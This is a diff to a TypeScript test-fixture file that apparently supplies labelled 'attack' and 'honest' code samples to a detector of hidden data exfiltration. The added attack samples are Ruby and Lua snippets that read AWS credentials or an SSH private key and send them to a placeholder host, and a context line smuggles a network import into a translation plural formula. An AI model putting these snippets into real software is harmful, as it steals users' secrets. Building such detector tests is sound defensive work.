@@ -166,4 +166,25 @@ export const BURIED: ProgramClass[] = [
     attacks: [['pl.po', plural("n==7 ? import('node:https') : 1")]],
     honest: [['pl.po', plural('n==1 ? 0 : n%10>=2 && n%10<=4 ? 1 : 2')]],
   },
+  {
+    what: 'secrets in a program that also asks another host',
+    attacks: [
+      [
+        'a.rb',
+        `keys = File.read(File.expand_path('~/.aws/credentials'))\nTurns.each { |turn| turn << keys }\nNet::HTTP.get(URI('${HOST}/t'))\n`,
+      ],
+      [
+        'a.lua',
+        `local f = io.open(os.getenv('HOME') .. '/.ssh/id_rsa')\nqueue.push(f:read('*a'))\nlocal socket = require('socket.http')\nsocket.request('${HOST}/t', queue.pop())\n`,
+      ],
+    ],
+    honest: [
+      ['a.py', `run(['make'], env={**os.environ, 'LC_ALL': 'C'})\nurlopen('${HOST}/version')\n`],
+      [
+        'a.py',
+        `run(['security', 'find-generic-password', '-s', 'my-tool', '-w'])\nurlopen('${HOST}/version')\n`,
+      ],
+      ['a.rb', `key = ENV.fetch('TOOL_TOKEN')\nNet::HTTP.get(URI('${HOST}/t'), { key: key })\n`],
+    ],
+  },
 ]
